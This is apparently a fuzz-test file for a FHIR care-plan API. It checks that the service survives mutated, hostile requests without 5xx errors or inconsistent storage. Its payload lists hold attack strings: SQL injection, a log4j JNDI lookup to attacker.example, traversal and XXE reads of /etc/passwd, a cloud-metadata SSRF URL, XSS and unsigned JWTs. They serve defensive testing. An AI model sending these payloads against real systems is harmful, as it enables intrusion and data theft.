// Fuzz: thousands of generated requests against the real service over HTTP (AUTH_MODE=jwt, the embedded FHIR
// server), most of them mutations of valid plans: wrong types, huge values, deep nesting, bad dates, unicode,
// markup, injection strings in bodies, search parameters and paths, hostile headers. Every answer must be a 2xx or
// a 4xx problem, never a 5xx or a crash, and the FHIR server must hold exactly what was accepted.
//
// FUZZ_RUNS (default 3000) and FUZZ_SEED reproduce a run; the seed is printed.
import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import type { Bundle } from 'fhir/r4.js';
import t from 'tap';
import { request } from 'undici';
import { planToTransaction } from '../../src/fhir/mapping/to-fhir.js';
import type { SharedCarePlan } from '../../src/model/care-plan.js';
import { type Issuer, type SecureService, startIssuer, startSecureService } from '../helpers/auth.js';
import { arbitraryPlan } from '../helpers/plans.js';
import { examplePlan } from '../helpers/service.js';

const RUNS = Number(process.env.FUZZ_RUNS ?? 3000);
const SEED = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);

t.setTimeout(600_000);

// ---------------------------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------------------------
const nest = (depth: number, leaf: unknown, asArray: boolean): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = asArray ? [value] : { a: value };
  return value;
};
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE care_plans; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup string, on purpose
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}<%= 7*7 %>',
  '../../../../etc/passwd',
  '..%2F..%2Fmetadata',
  'Patient/../../metadata',
  '%00',
  '\u0000',
  'subject=Patient/x&_count=100000',
  '&_include=*&_revinclude=*',
  'http://169.254.169.254/latest/meta-data/',
  'urn:uuid:00000000-0000-0000-0000-000000000000',
  '#',
  '$everything',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '<div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)></div>',
  ']]><!--',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'javascript:alert(1)',
];
const BAD_DATES = [
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '2026-01-01T25:61:00Z',
  '2026-01-01T10:00',
  '2026-01-01T10:00:00',
  '99999-01-01',
  '2026-1-1',
  '2026-01-01T10:00:00+25:00',
  '',
  'yesterday',
];
const UNICODE = [
  '\ud800',
  '\udfff\ud800',
  '\u202eevil',
  'zero\u200bwidth',
  '🙂'.repeat(500),
  'e\u0301\u0301\u0301\u0301',
  '\ufeff\ufffe\uffff',
  'Ω≈ç√∫˜µ≤≥÷',
];

const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS, ...MARKUP, ...BAD_DATES, ...UNICODE) },
  {
    weight: 2,
    arbitrary: fc.oneof(fc.constant(null), fc.boolean(), fc.integer(), fc.double(), fc.constant(-0)),
  },
  { weight: 1, arbitrary: fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 1e-320) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('x'.repeat(200_000), 'é'.repeat(60_000), '<'.repeat(30_000), ' '.repeat(5000)),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 5, max: 400 }).chain((d) => fc.boolean().map((a) => nest(d, 'deep', a))),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 100, max: 3000 }).map((n) => Array.from({ length: n }, (_, i) => i)),
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  {
    weight: 1,
    // A fresh copy each time: a mutation may insert one of these and then write into it, which would otherwise
    // change the constant for every later run (and could make it contain itself: a circular body).
    arbitrary: fc
      .constantFrom({}, [], [null], { resourceType: 'Patient' }, { reference: 'Patient/' })
      .map((value) => structuredClone(value)),
  },
);

// ---------------------------------------------------------------------------------------------------------------
// Mutations of valid values
// ---------------------------------------------------------------------------------------------------------------
type Path = (string | number)[];

function paths(value: unknown, prefix: Path = [], found: Path[] = []): Path[] {
  found.push(prefix);
  if (Array.isArray(value)) {
    for (let i = 0; i < value.length; i++) paths(value[i], [...prefix, i], found);
  } else if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) paths(item, [...prefix, key], found);
  }
  return found;
}

interface Mutation {
  at: number;
  op: 'text' | 'set' | 'delete' | 'add' | 'wrap' | 'duplicate';
  key: string;
  value: unknown;
  text: string;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(),
  op: fc.constantFrom('text', 'text', 'text', 'set', 'set', 'set', 'delete', 'add', 'wrap', 'duplicate'),
  key: fc.oneof(
    fc.constantFrom('resourceType', 'id', 'extension', 'unmappedFhir', 'text', 'status'),
    fc.string({ maxLength: 12 }),
  ),
  value: hostile,
  text: fc.oneof(
    fc.constantFrom(...INJECTIONS, ...MARKUP, ...UNICODE, ...BAD_DATES),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
  ),
});

function mutate<T>(original: T, mutations: Mutation[]): T {
  const value = structuredClone(original) as unknown;
  let root = value;
  for (const m of mutations) {
    const all = paths(root);
    let path = all[m.at % all.length];
    if (m.op === 'text') {
      // A string in the value, replaced by hostile text: this kind often passes the schema and reaches the mapping.
      const strings = all.filter(
        (p) =>
          typeof p.reduce<unknown>((v, k) => (v as Record<string, unknown>)?.[k as string], root) ===
          'string',
      );
      if (strings.length === 0) continue;
      path = strings[m.at % strings.length];
    }
    if (path.length === 0) {
      if (m.op === 'set') root = m.value;
      else if (m.op === 'add' && root && typeof root === 'object' && !Array.isArray(root)) {
        (root as Record<string, unknown>)[m.key] = m.value;
      }
      continue;
    }
    const parent = path
      .slice(0, -1)
      .reduce<unknown>((v, k) => (v as Record<string, unknown>)[k as string], root) as
      | Record<string | number, unknown>
      | unknown[];
    const last = path[path.length - 1];
    const current = (parent as Record<string | number, unknown>)[last];
    switch (m.op) {
      case 'text':
        (parent as Record<string | number, unknown>)[last] = m.text;
        break;
      case 'set':
        (parent as Record<string | number, unknown>)[last] = m.value;
        break;
      case 'delete':
        if (Array.isArray(parent)) parent.splice(last as number, 1);
        else delete (parent as Record<string, unknown>)[last];
        break;
      case 'add':
        if (current && typeof current === 'object' && !Array.isArray(current)) {
          (current as Record<string, unknown>)[m.key] = m.value;
        } else (parent as Record<string | number, unknown>)[last] = { [m.key]: m.value };
        break;
      case 'wrap':
        (parent as Record<string | number, unknown>)[last] = [current];
        break;
      case 'duplicate':
        if (Array.isArray(current)) current.push(...structuredClone(current));
        else (parent as Record<string | number, unknown>)[last] = [current, current];
        break;
    }
  }
  return root as T;
}

const mutations = fc.array(mutation, { minLength: 1, maxLength: 3 });
/** Mostly mutated, sometimes as generated (valid). */
const maybeMutated = <T>(arb: fc.Arbitrary<T>) =>
  fc.oneof(
    { weight: 9, arbitrary: fc.tuple(arb, mutations).map(([v, m]) => mutate(v, m)) },
    { weight: 1, arbitrary: arb },
  );

// ---------------------------------------------------------------------------------------------------------------
// Requests
// ---------------------------------------------------------------------------------------------------------------
interface Input {
  kind: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  headers: Record<string, string>;
  body?: string;
}

/** Header values as an HTTP client can send them: latin1, no control characters. */
const headerValue = (text: string) =>
  text.replace(/[^\u0020-\u007e\u00a0-\u00ff]/g, '').slice(0, 4000) || 'x';
/** Lone surrogates replaced, as any HTTP client must before percent-encoding. */
const wellFormed = (text: string) =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
const queryValue = (value: unknown) =>
  encodeURIComponent(
    wellFormed(typeof value === 'string' ? value : (JSON.stringify(value) ?? 'null')).slice(0, 3000),
  );

/** A valid value three times in four, else a hostile one. */
const mostly = <T>(valid: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 3, arbitrary: valid as fc.Arbitrary<unknown> }, { weight: 1, arbitrary: hostile });

/** Cursors as the service encodes them, with hostile positions inside (forged cursors). */
const cursor = fc
  .record({
    t: fc.oneof(fc.constantFrom('', '2026-01-01T00:00:00Z', '9999-99-99T::::Z'), hostile),
    seen: fc.array(hostile, { maxLength: 5 }),
  })
  .map((position) => Buffer.from(JSON.stringify(position)).toString('base64url'));

const hostileText = hostile.map((v) => (typeof v === 'string' ? v : (JSON.stringify(v) ?? 'null')));

const authorizations = fc.constantFrom(
  '',
  'Bearer',
  'Bearer ',
  'Basic dXNlcjpwYXNz',
  'Bearer eyJhbGciOiJub25lIn0.eyJzY29wZSI6InN5c3RlbS9DYXJlUGxhbi5jcnVkcyJ9.',
  'Bearer a.b.c',
  `Bearer ${'A'.repeat(6000)}`,
  'Bearer ../../etc/passwd',
  'bearer\teyJ',
);

function inputs(context: {
  token: string;
  seedId: () => string;
  seedEtag: () => string;
  goalId: () => string;
}) {
  const auth = { authorization: `Bearer ${context.token}` };
  const json = { ...auth, 'content-type': 'application/json' };
  const plan = maybeMutated(arbitraryPlan().map((p) => ({ ...p, title: 'fuzz' }) as SharedCarePlan));
  const seedPlan = (): SharedCarePlan => ({ ...examplePlan(), id: context.seedId() }) as SharedCarePlan;
  const fhirBundle = maybeMutated(
    arbitraryPlan().map((p) => planToTransaction(p, { newUuid: randomUUID }) as unknown),
  );
  const goal = maybeMutated(
    fc.constant({ description: { text: 'Walk to the park' }, lifecycleStatus: 'proposed' } as Record<
      string,
      unknown
    >),
  );
  return fc.oneof(
    {
      weight: 30,
      arbitrary: plan.map(
        (body): Input => ({
          kind: 'create',
          method: 'POST',
          path: '/care-plans',
          headers: json,
          body: JSON.stringify(body),
        }),
      ),
    },
    {
      weight: 8,
      arbitrary: fc.tuple(plan, hostileText).map(
        ([body, key]): Input => ({
          kind: 'create-idempotent',
          method: 'POST',
          path: '/care-plans',
          headers: { ...json, 'idempotency-key': headerValue(key).slice(0, 200) },
          body: JSON.stringify(body),
        }),
      ),
    },
    {
      weight: 8,
      arbitrary: plan.map(
        (body): Input => ({
          kind: 'to-fhir',
          method: 'POST',
          path: '/care-plans/$to-fhir',
          headers: json,
          body: JSON.stringify(body),
        }),
      ),
    },
    {
      weight: 8,
      arbitrary: fhirBundle.map(
        (body): Input => ({
          kind: 'from-fhir',
          method: 'POST',
          path: '/care-plans/$from-fhir',
          headers: { ...auth, 'content-type': 'application/fhir+json' },
          body: JSON.stringify(body),
        }),
      ),
    },
    {
      weight: 12,
      arbitrary: fc.tuple(mutations, fc.boolean()).map(
        ([m, staleTag]): Input => ({
          kind: 'replace',
          method: 'PUT',
          path: `/care-plans/${context.seedId()}`,
          headers: { ...json, 'if-match': staleTag ? 'W/"1"' : context.seedEtag() },
          body: JSON.stringify(mutate(seedPlan(), m)),
        }),
      ),
    },
    {
      weight: 8,
      arbitrary: fc.tuple(goal, fc.boolean()).map(
        ([body, patch]): Input => ({
          kind: patch ? 'goal-change' : 'goal-add',
          method: patch ? 'PATCH' : 'POST',
          path: patch
            ? `/care-plans/${context.seedId()}/goals/${context.goalId()}`
            : `/care-plans/${context.seedId()}/goals`,
          headers: { ...json, 'if-match': context.seedEtag() },
          body: JSON.stringify(body),
        }),
      ),
    },
    {
      weight: 12,
      arbitrary: fc
        .record(
          {
            patient: mostly(fc.constantFrom('Patient/maria-lopez', 'Patient/example')),
            status: mostly(fc.constantFrom('active', 'draft')),
            updatedSince: mostly(fc.constantFrom('2020-01-01', '2026-11-20T10:00:00Z')),
            limit: mostly(fc.integer({ min: 1, max: 100 })),
            cursor: fc.oneof(cursor, hostile),
            extra: fc.oneof(
              { weight: 9, arbitrary: fc.constant(undefined) },
              { weight: 1, arbitrary: hostile },
            ),
          },
          { requiredKeys: ['patient'] },
        )
        .map(
          (query): Input => ({
            kind: 'search',
            method: 'GET',
            path: `/care-plans?${Object.entries(query)
              .filter(([, v]) => v !== undefined)
              .map(([k, v]) => `${k}=${queryValue(v)}`)
              .join('&')}`,
            headers: auth,
          }),
        ),
    },
    {
      weight: 4,
      arbitrary: fc.tuple(fc.option(fc.oneof(cursor, hostile)), mostly(fc.integer({ min: 1, max: 500 }))).map(
        ([since, limit]): Input => ({
          kind: 'changes',
          method: 'GET',
          path: `/care-plans/changes?${since === null ? '' : `since=${queryValue(since)}&`}limit=${queryValue(limit)}`,
          headers: auth,
        }),
      ),
    },
    {
      weight: 4,
      arbitrary: fc.tuple(hostileText, fc.constantFrom('', '/history', '/goals/x', '/activities/%2e%2e')).map(
        ([id, rest]): Input => ({
          kind: 'path',
          method: 'GET',
          path: `/care-plans/${queryValue(id)}${rest}`,
          headers: auth,
        }),
      ),
    },
    {
      weight: 6,
      arbitrary: fc
        .record({
          authorization: authorizations,
          accept: hostileText,
          contentType: fc.constantFrom(
            'application/json',
            'text/xml',
            'multipart/form-data; boundary=x',
            'application/json; charset=utf-16',
            'application/x-www-form-urlencoded',
            '',
          ),
          ifMatch: hostileText,
          requestId: hostileText,
          body: fc.oneof(
            plan.map((p) => JSON.stringify(p)),
            hostileText,
            fc.constantFrom('', '{', '{"a":1}}', 'null', '[]', '\u0000'),
          ),
          valid: fc.boolean(),
        })
        .map(
          ({ authorization, accept, contentType, ifMatch, requestId, body, valid }): Input => ({
            kind: 'headers',
            method: 'POST',
            path: '/care-plans',
            headers: {
              ...(valid ? auth : authorization ? { authorization: headerValue(authorization) } : {}),
              accept: headerValue(accept),
              ...(contentType ? { 'content-type': contentType } : {}),
              'if-match': headerValue(ifMatch),
              'x-request-id': headerValue(requestId),
            },
            body,
          }),
        ),
    },
  );
}

// ---------------------------------------------------------------------------------------------------------------

let issuer: Issuer;
let service: SecureService;
t.before(async () => {
  issuer = await startIssuer();
  service = await startSecureService(issuer, { LOG_LEVEL: 'warn', CHANGE_FEED_SETTLE_MS: '0' });
});
t.teardown(async () => {
  await service.close();
  await issuer.close();
});

t.test(
  `fuzz: ${RUNS} hostile requests, never a 5xx, and the FHIR server holds only what was accepted`,
  async (t) => {
    const token = await issuer.token({ scope: 'system/CarePlan.cruds', client_id: 'fuzzer', sub: 'fuzzer' });
    const patientToken = await issuer.token({
      scope: 'patient/CarePlan.cruds',
      client_id: 'patient-app',
      patient: 'maria-lopez',
    });
    await service.app.listen({ host: '127.0.0.1', port: 0 });
    const base = `http://127.0.0.1:${(service.app.server.address() as AddressInfo).port}`;

    // How many inputs got past the API schema into the mapping (every write and $to-fhir maps through the use
    // cases' PlanFhir.toFhir).
    let mapped = 0;
    const mapping = service.app.carePlans.mapping;
    const toFhir = mapping.toFhir.bind(mapping);
    mapping.toFhir = (...args) => {
      mapped++;
      return toFhir(...args);
    };

    const call = async (input: Input) => {
      const response = await request(`${base}${input.path}`, {
        method: input.method,
        headers: input.headers,
        ...(input.body !== undefined && input.method !== 'GET' ? { body: input.body } : {}),
      });
      const text = await response.body.text();
      return { status: response.statusCode, headers: response.headers, text };
    };

    const seed = await call({
      kind: 'seed',
      method: 'POST',
      path: '/care-plans',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(examplePlan()),
    });
    t.equal(seed.status, 201);
    const seedPlan = JSON.parse(seed.text) as SharedCarePlan;
    let seedEtag = seed.headers.etag as string;
    let goalId = seedPlan.goals?.[0]?.id as string;
    const accepted = new Set<string>([seedPlan.id as string]);
    let writes = 1;
    const statuses: Record<string, number> = {};
    const failures: string[] = [];
    let sent = 0;

    // Printed first: a run that throws (in a generator, say) ends before the summary that names the seed.
    t.comment(`fuzz seed ${SEED} (FUZZ_SEED=${SEED} repeats this run)`);
    const result = await fc.check(
      fc.asyncProperty(
        inputs({
          token,
          seedId: () => seedPlan.id as string,
          seedEtag: () => seedEtag,
          goalId: () => goalId,
        }),
        fc.nat(99),
        async (generated, dice) => {
          // Some requests come from a patient token (Patient/maria-lopez, the seed plan's patient) instead.
          const input =
            dice < 15 && generated.headers.authorization === `Bearer ${token}`
              ? { ...generated, headers: { ...generated.headers, authorization: `Bearer ${patientToken}` } }
              : generated;
          sent++;
          const answer = await call(input).catch((error: Error) => error);
          if (answer instanceof Error) {
            failures.push(`${input.method} ${input.path.slice(0, 120)} -> no answer: ${answer.message}`);
            return false;
          }
          const { status, headers, text } = answer;
          statuses[`${input.kind} ${status}`] = (statuses[`${input.kind} ${status}`] ?? 0) + 1;
          if (status >= 500) {
            failures.push(`${input.method} ${input.path.slice(0, 200)} -> ${status} ${text.slice(0, 500)}`);
            return false;
          }
          if (status >= 400) {
            let problem: Record<string, unknown> = {};
            try {
              problem = JSON.parse(text);
            } catch {}
            const isProblem =
              String(headers['content-type']).startsWith('application/problem+json') &&
              problem.status === status &&
              typeof problem.type === 'string' &&
              typeof problem.title === 'string' &&
              typeof problem.detail === 'string';
            if (!isProblem)
              failures.push(
                `${input.method} ${input.path.slice(0, 200)} -> ${status} not a problem: ${text.slice(0, 300)}`,
              );
            return isProblem;
          }
          if (status === 201 && input.method === 'POST' && input.path === '/care-plans') {
            const id = JSON.parse(text).id as string;
            if (!accepted.has(id)) writes++;
            accepted.add(id);
          }
          if (['replace', 'goal-add', 'goal-change'].includes(input.kind)) {
            writes++;
            seedEtag = headers.etag as string;
            const plan = JSON.parse(text) as SharedCarePlan;
            goalId = plan.goals?.[0]?.id ?? goalId;
          }
          return true;
        },
      ),
      { numRuns: RUNS, seed: SEED, endOnFailure: true },
    );
    // fast-check's own report would print the (possibly megabytes long) counterexample: summarise it instead.
    if (result.failed) t.comment(`fuzz seed ${SEED} failed after ${result.numRuns} runs`);
    t.same(failures, [], 'every answer was a 2xx or a 4xx problem');

    const onServer = await service.fhir<Bundle>('CarePlan?_count=5000');
    const stored = new Set((onServer.entry ?? []).map((e) => e.resource?.id as string));
    t.same(
      [...stored].sort(),
      [...accepted].sort(),
      'the FHIR server holds exactly the plans that were accepted',
    );
    const current = await call({
      kind: 'read',
      method: 'GET',
      path: `/care-plans/${seedPlan.id}`,
      headers: { authorization: `Bearer ${token}` },
    });
    t.equal(current.headers.etag, seedEtag, 'the edited plan is at the version of the last accepted edit');
    const provenance = await service.fhir<Bundle>('Provenance?_count=10000');
    t.equal(
      provenance.total ?? provenance.entry?.length,
      writes,
      'one Provenance per accepted write, none for refused ones',
    );
    for (const id of accepted) {
      const read = await call({
        kind: 'read',
        method: 'GET',
        path: `/care-plans/${id}`,
        headers: { authorization: `Bearer ${token}` },
      });
      if (read.status !== 200) t.fail(`accepted plan ${id} reads as ${read.status}`);
    }
    t.equal(
      (await call({ kind: 'live', method: 'GET', path: '/health/live', headers: {} })).status,
      200,
      'still alive',
    );
    const errors = service.logs.records().filter((r) => (r.level as number) >= 50);
    t.same(errors, [], 'no error was logged');

    const passed = Object.entries(statuses).reduce((n, [k, c]) => (/ 2\d\d$/.test(k) ? n + c : n), 0);
    const summary =
      `fuzz: sent ${sent} inputs (seed ${SEED}); ${mapped} passed schema validation into the mapping; ` +
      `${passed} accepted (2xx); ${accepted.size - 1} plans created, ${writes - accepted.size} edits`;
    console.log(summary);
    t.comment(summary);
    t.comment(JSON.stringify(Object.fromEntries(Object.entries(statuses).sort())));
    t.ok(mapped > RUNS / 20, 'a fair share of the inputs reached the mapping');
  },
);
